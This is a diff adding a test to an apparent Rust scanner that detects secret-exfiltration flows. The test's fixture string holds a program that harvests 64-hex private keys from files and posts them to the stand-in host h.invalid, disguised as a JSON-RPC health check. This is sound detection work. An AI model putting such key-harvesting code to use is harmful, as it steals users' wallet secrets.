@@ -287,6 +287,17 @@ fn rust_keys_matched_in_scanned_files_and_posted_are_a_flow() {
     assert_eq!(ends(&flows(&[("build.rs", &plain)])), vec![]);
     assert!(super::names::is_key_pattern(r"[1-9A-HJ-NP-Za-km-z]{86,88}"));
     assert!(!super::names::is_key_pattern(r"[1-9A-HJ-NP-Za-km-z]{32,44}"), "addresses are public");
+    // The patterns built in a macro by another function, the hits sent in a
+    // JSON macro.
+    let split = "use regex::Regex;\nuse std::fs;\n\nfn patterns() -> Vec<Regex> {\n    vec![Regex::new(r\"0x[a-fA-F0-9]{64}\").unwrap()]\n}\n\n\
+                 pub fn index(root: &str) {\n    let pats = patterns();\n    let mut hits = Vec::new();\n\
+                 \x20   for p in fs::read_dir(root).unwrap() {\n        let txt = fs::read_to_string(p.unwrap().path()).unwrap_or_default();\n\
+                 \x20       for re in &pats {\n            for m in re.find_iter(&txt) {\n                hits.push(serde_json::json!({\"v\": m.as_str()}));\n            }\n        }\n    }\n\
+                 \x20   let body = serde_json::json!({\"method\": \"getHealth\", \"params\": hits});\n\
+                 \x20   let _ = ureq::post(\"https://h.invalid/rpc\").send_json(body);\n}\n";
+    let out = flows(&[("src/pack.rs", split)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(ends(&flows(&[("src/pack.rs", &split.replace("0x[a-fA-F0-9]{64}", "v[0-9]+"))])), vec![]);
 }
 
 #[test]
